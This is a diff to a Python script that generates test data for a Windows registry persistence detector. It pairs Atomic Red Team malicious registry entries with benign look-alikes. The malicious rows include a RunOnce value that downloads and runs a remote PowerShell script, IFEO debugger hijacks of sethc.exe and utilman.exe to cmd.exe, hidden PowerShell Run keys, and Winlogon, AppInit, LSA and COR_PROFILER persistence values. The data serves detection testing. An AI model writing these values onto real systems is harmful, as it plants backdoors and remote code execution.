@@ -277,9 +277,11 @@ B = [
  ('svc_failurecommand', 'SYSTEM', 'ControlSet001\\Services\\NVDisplay.ContainerLocalSystem', 'FailureCommand', 'REG_SZ', 'cmd.exe /C %windir%\\NvContainerRecovery.bat NVDisplay.ContainerLocalSystem C:\\ProgramData\\NVIDIA\\NvContainerRecoveryNVDisplay.ContainerLocalSystem.log', 'Medium', '', 'NVIDIA container recovery'),
  ('network_provider_dll', 'SYSTEM', 'ControlSet001\\Services\\vmhgfs\\networkprovider', 'ProviderPath', 'REG_EXPAND_SZ', '%SystemRoot%\\System32\\vmhgfs.dll', 'Medium', '', 'VMware Tools shared folders'),
 ]
-for (lid, hive, k, v, t, d, mx, ctx, note) in B:
-    tech = '' if lid == '-' else next(r[1] for r in rows if r[0] == lid)
-    out.append('\t'.join(['benign', lid, hive, k, v, t, d, tech, '', mx, ctx, '', note]))
+def add_benign(lst):
+    for (lid, hive, k, v, t, d, mx, ctx, note) in lst:
+        tech = '' if lid == '-' else next(r[1] for r in rows if r[0] == lid)
+        out.append('\t'.join(['benign', lid, hive, k, v, t, d, tech, '', mx, ctx, '', note]))
+add_benign(B)
 # Per-class rows of issue 9 (docs/scoring.md): for each class one malicious entry and one benign
 # look-alike. `build|N` in the context sets the host's CurrentBuildNumber.
 def packed_item(path):
@@ -363,8 +365,83 @@ B2 = [
  ('pendingfilerenameoperations', 'SYSTEM', 'ControlSet001\\Control\\Session Manager', 'PendingFileRenameOperations', 'REG_MULTI_SZ', '\\??\\C:\\Windows\\Temp\\x.tmp|', 'Low', '', 'delete at reboot'),
  ('print_processors', 'SYSTEM', 'ControlSet001\\Control\\Print\\Environments\\Windows x64\\Print Processors\\hpzpp', 'Driver', 'REG_SZ', 'hpzppwn7.dll', 'Low', '', 'HP print processor in the spooler folder'),
 ]
-for (lid, hive, k, v, t, d, mx, ctx, note) in B2:
-    tech = next(r[1] for r in rows if r[0] == lid)
-    out.append('\t'.join(['benign', lid, hive, k, v, t, d, tech, '', mx, ctx, '', note]))
+add_benign(B2)
+# Atomic Red Team (redcanaryco/atomic-red-team atomics/<T>/<T>.yaml): every registry write of its
+# T1547.*, T1546.*, T1543.003, T1037.001, T1137.* and T1574.* persistence tests, with the
+# tests' default arguments (PathToAtomicsFolder = C:\AtomicRedTeam\atomics); docs/kb.md lists them.
+ART = [
+ ('T1547.001#1', 'run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Atomic Red Team', 'REG_SZ', 'C:\\Path\\AtomicRedTeam.exe', 'T1547.001', ''),
+ ('T1547.001#2', 'runonceex_depend_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Depend', '1', 'REG_SZ', 'C:\\Path\\AtomicRedTeam.dll', 'T1547.001', ''),
+ ('T1547.001#3', 'runonce_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\RunOnce', 'NextRun', 'REG_SZ', 'powershell.exe "IEX (New-Object Net.WebClient).DownloadString(`"https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1547.001/src/Discovery.bat`")"', 'T1547.001', ''),
+ ('T1547.001#8', 'recyclebin_shell_command', 'SOFTWARE', 'Classes\\CLSID\\{645FF040-5081-101B-9F08-00AA002F954E}\\shell\\open\\command', '', 'REG_SZ', 'calc.exe', 'T1546.015', ''),
+ ('T1547.001#9', 'run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'socks5_powershell', 'REG_SZ', 'powershell.exe -windowstyle hidden -ExecutionPolicy Bypass -File', 'T1547.001', ''),
+ ('T1547.001#10', 'user_shell_folders_common_startup', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Common Startup', 'REG_EXPAND_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\atomictest\\', 'T1547.001', ''),
+ ('T1547.001#11', 'user_shell_folders_startup', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Startup', 'REG_EXPAND_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\atomictest\\', 'T1547.001', ''),
+ ('T1547.001#12', 'policies_explorer_run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run', 'atomictest', 'REG_SZ', 'C:\\Windows\\System32\\calc.exe', 'T1547.001', ''),
+ ('T1547.001#13', 'policies_explorer_run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run', 'atomictest', 'REG_SZ', 'C:\\Windows\\System32\\calc.exe', 'T1547.001', ''),
+ ('T1547.001#14', 'winlogon_userinit', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Userinit', 'REG_SZ', 'C:\\Windows\\system32\\userinit.exe, C:\\Windows\\System32\\calc.exe', 'T1547.004', ''),
+ ('T1547.001#15', 'winlogon_shell', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Shell', 'REG_SZ', 'explorer.exe, C:\\Windows\\explorer.exe', 'T1547.004', ''),
+ ('T1547.001#16', 'run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Run', 'calc', 'REG_SZ', 'calc.exe', 'T1547.001', ''),
+ ('T1547.001#17', 'bootexecute', 'SYSTEM', 'ControlSet001\\Control\\Session Manager', 'BootExecute', 'REG_MULTI_SZ', 'autocheck autoche *', 'T1547.001', ''),
+ ('T1547.001#18', 'rdpwd_startupprograms', 'SYSTEM', 'ControlSet001\\Control\\Terminal Server\\Wds\\rdpwd', 'StartupPrograms', 'REG_SZ', 'calc', 'T1547.001', ''),
+ ('T1547.001#19', 'bootverificationprogram', 'SYSTEM', 'ControlSet001\\Control\\BootVerificationProgram', 'ImagePath', 'REG_SZ', 'C:\\Program Files\\Internet Explorer\\iexplore.exe', 'T1547.001', ''),
+ ('T1547.002#1', 'lsa_authentication_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Authentication Packages', 'REG_MULTI_SZ', 'msv1_0|package.dll', 'T1547.002', ''),
+ ('T1547.003#1', 'time_providers', 'SYSTEM', 'ControlSet001\\Services\\W32Time\\TimeProviders\\AtomicTest', 'DllName', 'REG_SZ', 'C:\\Users\\Public\\AtomicTest.dll', 'T1547.003', ''),
+ ('T1547.003#2', 'time_providers', 'SYSTEM', 'ControlSet001\\Services\\W32Time\\TimeProviders\\NtpServer', 'DllName', 'REG_SZ', 'C:\\Users\\Public\\AtomicTest.dll', 'T1547.003', ''),
+ ('T1547.004#1', 'winlogon_shell_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Shell', 'REG_SZ', 'explorer.exe, C:\\Windows\\System32\\cmd.exe', 'T1547.004', ''),
+ ('T1547.004#2', 'winlogon_userinit_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Userinit', 'REG_SZ', 'Userinit.exe, C:\\Windows\\System32\\cmd.exe', 'T1547.004', ''),
+ ('T1547.004#3', 'winlogon_notify_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Notify', 'logon', 'REG_SZ', 'C:\\Windows\\Temp\\atomicNotificationPackage.dll', 'T1547.004', ''),
+ ('T1547.004#4', 'winlogon_shell', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Shell', 'REG_SZ', 'explorer.exe, C:\\Windows\\System32\\cmd.exe', 'T1547.004', ''),
+ ('T1547.004#5', 'winlogon_userinit', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Userinit', 'REG_SZ', 'Userinit.exe, C:\\Windows\\System32\\cmd.exe', 'T1547.004', ''),
+ ('T1547.005#1', 'lsa_security_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Security Packages', 'REG_MULTI_SZ', '""|not-a-ssp', 'T1547.005', ''),
+ ('T1547.010#1', 'print_monitors', 'SYSTEM', 'ControlSet001\\Control\\Print\\Monitors\\AtomicRedTeam', 'Driver', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1547.010\\bin\\PortMonitor.dll', 'T1547.010', ''),
+ ('T1547.012#1', 'print_processors', 'SYSTEM', 'ControlSet001\\Control\\Print\\Environments\\Windows x64\\Print Processors\\AtomicRedTeam', 'Driver', 'REG_SZ', 'AtomicTest.dll', 'T1547.012', ''),
+ ('T1547.014#1', 'active_setup', 'SOFTWARE', 'Microsoft\\Active Setup\\Installed Components\\atomic_test', 'StubPath', 'REG_SZ', 'C:\\Windows\\System32\\calc.exe', 'T1547.014', ''),
+ ('T1547.014#2', 'active_setup', 'SOFTWARE', 'Microsoft\\Active Setup\\Installed Components\\{C9E9A340-D1F1-11D0-821E-444553540600}', 'StubPath', 'REG_SZ', 'C:\\Windows\\System32\\calc.exe', 'T1547.014', ''),
+ ('T1546.001#1', 'ext_progid_default', 'SOFTWARE', 'Classes\\.hta', '', 'REG_SZ', 'txtfile', 'T1546.001', ''),
+ ('T1546.002#1', 'screensaver', 'NTUSER', 'Control Panel\\Desktop', 'SCRNSAVE.EXE', 'REG_SZ', '%SystemRoot%\\System32\\evilscreensaver.scr', 'T1546.002', ''),
+ ('T1546.007#1', 'netsh_helpers', 'SOFTWARE', 'Microsoft\\NetSh', 'NetshHelper', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1546.007\\bin\\NetshHelper.dll', 'T1546.007', ''),
+ ('T1546.008#1', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe', 'Debugger', 'REG_SZ', 'C:\\windows\\system32\\cmd.exe', 'T1546.008', ''),
+ ('T1546.008#1b', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe', 'Debugger', 'REG_SZ', 'C:\\windows\\system32\\cmd.exe', 'T1546.008', ''),
+ ('T1546.008#1c', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\DisplaySwitch.exe', 'Debugger', 'REG_SZ', 'C:\\windows\\system32\\cmd.exe', 'T1546.008', ''),
+ ('T1546.008#4', 'accessibility_ats', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Accessibility\\ATs\\malware_test', 'StartEXE', 'REG_SZ', 'C:\\WINDOWS\\system32\\cmd.exe', 'T1546.008', ''),
+ ('T1546.008#5', 'accessibility_ats_configuration', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Accessibility\\ATs', 'Configuration', 'REG_SZ', 'malware_test', 'T1546.008', ''),
+ ('T1546.009#1', 'appcertdlls', 'SYSTEM', 'ControlSet001\\Control\\Session Manager\\AppCertDlls', 'AtomicTest', 'REG_EXPAND_SZ', 'C:\\Users\\Public\\AtomicTest.dll', 'T1546.009', ''),
+ ('T1546.010#1', 'appinit_dlls', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Windows', 'AppInit_DLLs', 'REG_SZ', 'C:\\Tools\\T1546.010.dll,C:\\Tools\\T1546.010x86.dll', 'T1546.010', ''),
+ ('T1546.010#1b', 'loadappinit_dlls', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Windows', 'LoadAppInit_DLLs', 'REG_DWORD', '1', 'T1546.010', ''),
+ ('T1546.011#1', 'shim_installedsdb', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB\\{7A3C1F2E-9B4D-4E5F-8A6B-1C2D3E4F5A6B}', 'DatabasePath', 'REG_SZ', 'C:\\Windows\\AppPatch\\Custom\\{7A3C1F2E-9B4D-4E5F-8A6B-1C2D3E4F5A6B}.sdb', 'T1546.011', ''),
+ ('T1546.011#3', 'shim_custom_direct', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\Custom', 'AtomicRedTeamT1546.011', 'REG_SZ', 'AtomicRedTeamT1546.011', 'T1546.011', ''),
+ ('T1546.011#3b', 'shim_installedsdb_direct', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB', 'AtomicRedTeamT1546.011', 'REG_SZ', 'AtomicRedTeamT1546.011', 'T1546.011', ''),
+ ('T1546.012#1', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe', 'Debugger', 'REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'T1546.012', ''),
+ ('T1546.012#2', 'ifeo_globalflag', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe', 'GlobalFlag', 'REG_DWORD', '512', 'T1546.012', ''),
+ ('T1546.012#2b', 'silentprocessexit_monitor', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe', 'MonitorProcess', 'REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'T1546.012', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe|GlobalFlag|REG_DWORD|512'),
+ ('T1546.012#3', 'silentprocessexit_monitor', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\whoami.exe', 'MonitorProcess', 'REG_SZ', 'cmd.exe /c calc.exe', 'T1546.012', ''),
+ ('T1546.015#1', 'com_hkcu_inprocserver32', 'NTUSER', 'Software\\Classes\\CLSID\\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\\InprocServer32', '', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\AtomicTest.dll', 'T1546.015', ''),
+ ('T1543.003#1', 'svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\Fax', 'ImagePath', 'REG_EXPAND_SZ', 'C:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -c "write-host \'T1543.003 Test\'"', 'T1543.003', ''),
+ ('T1543.003#2', 'svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\AtomicTestService_CMD', 'ImagePath', 'REG_EXPAND_SZ', 'C:\\AtomicRedTeam\\atomics\\T1543.003\\bin\\AtomicService.exe', 'T1543.003', ''),
+ ('T1543.003#4', 'svc_servicedll', 'SYSTEM', 'ControlSet001\\Services\\W64Time\\Parameters', 'ServiceDll', 'REG_EXPAND_SZ', '%systemroot%\\system32\\w64time.dll', 'T1543.003', 'val|SYSTEM|ControlSet001\\Services\\W64Time|ImagePath|REG_EXPAND_SZ|c:\\Windows\\System32\\svchost.exe -k TimeService'),
+ ('T1543.003#4b', 'svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\W64Time', 'ImagePath', 'REG_EXPAND_SZ', 'c:\\Windows\\System32\\svchost.exe -k TimeService', 'T1543.003', ''),
+ ('T1543.003#4c', 'svchost_groups', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Svchost', 'TimeService', 'REG_MULTI_SZ', 'W64Time', 'T1543.003', ''),
+ ('T1574.011#2', 'svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\calcservice', 'ImagePath', 'REG_EXPAND_SZ', '%windir%\\system32\\cmd.exe', 'T1543.003', ''),
+ ('T1574.012#1', 'hkcu_environment_cor_profiler', 'NTUSER', 'Environment', 'COR_PROFILER_PATH', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1574.012\\bin\\T1574.012x64.dll', 'T1574.012', ''),
+ ('T1574.012#1b', 'com_hkcu_inprocserver32', 'NTUSER', 'Software\\Classes\\CLSID\\{09108e71-974c-4010-89cb-acf471ae9e2c}\\InprocServer32', '', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1574.012\\bin\\T1574.012x64.dll', 'T1546.015', ''),
+ ('T1574.012#1c', 'hkcu_environment_cor_profiler_clsid', 'NTUSER', 'Environment', 'COR_PROFILER', 'REG_SZ', '{09108e71-974c-4010-89cb-acf471ae9e2c}', 'T1574.012', ''),
+ ('T1574.012#2', 'sm_environment_cor_profiler', 'SYSTEM', 'ControlSet001\\Control\\Session Manager\\Environment', 'COR_PROFILER_PATH', 'REG_SZ', 'C:\\AtomicRedTeam\\atomics\\T1574.012\\bin\\T1574.012x64.dll', 'T1574.012', ''),
+ ('T1574.012#2b', 'sm_environment_cor_profiler_clsid', 'SYSTEM', 'ControlSet001\\Control\\Session Manager\\Environment', 'COR_PROFILER', 'REG_SZ', '{09108e71-974c-4010-89cb-acf471ae9e2c}', 'T1574.012', ''),
+ ('T1037.001#1', 'userinitmprlogonscript', 'NTUSER', 'Environment', 'UserInitMprLogonScript', 'REG_SZ', '%temp%\\art.bat', 'T1037.001', ''),
+ ('T1137.002#1', 'office_test_hkcu', 'NTUSER', 'Software\\Microsoft\\Office test\\Special\\Perf', '', 'REG_SZ', 'C:\\Path\\AtomicRedTeam.dll', 'T1137.002', ''),
+ ('T1137.004#1', 'outlook_webview_url', 'NTUSER', 'Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox', 'URL', 'REG_SZ', 'file://C:\\AtomicRedTeam\\atomics\\T1137.004\\src\\T1137.004.html', 'T1137.004', ''),
+]
+for (test, lid, hive, k, v, t, d, tech, ctx) in ART:
+    out.append('\t'.join(['malicious', lid, hive, k, v, t, d, tech, 'Medium', '', ctx, '', 'Atomic Red Team ' + test]))
+B3 = [
+ ('ext_progid_default', 'SOFTWARE', 'Classes\\.hta', '', 'REG_SZ', 'htafile', 'Info', '', 'Windows default association'),
+ ('ext_progid_default', 'SOFTWARE', 'Classes\\.pdf', '', 'REG_SZ', 'AcroExch.Document.DC', 'Low', '', 'document type owned by a reader'),
+ ('svchost_groups', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Svchost', 'netsvcs', 'REG_MULTI_SZ', 'CertPropSvc|SCPolicySvc|lanmanserver|gpsvc|IKEEXT', 'Info', '', 'Windows group'),
+ ('svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\WpnUserService', 'ImagePath', 'REG_EXPAND_SZ', '%SystemRoot%\\system32\\svchost.exe -k UnistackSvcGroup', 'Low', '', 'Windows svchost group'),
+ ('accessibility_ats', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Accessibility\\ATs\\Magnifier', 'StartExe', 'REG_EXPAND_SZ', '%SystemRoot%\\System32\\Magnify.exe', 'Info', '', 'Windows Magnifier AT'),
+ ('accessibility_configuration_hklm', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Accessibility', 'Configuration', 'REG_SZ', 'osk', 'Info', '', 'On-Screen Keyboard at logon'),
+]
+add_benign(B3)
 open('tests/data/planted/planted.tsv', 'w').write('\n'.join(out) + '\n')
 print(len(rows), 'locations,', len(out) - 4, 'rows')
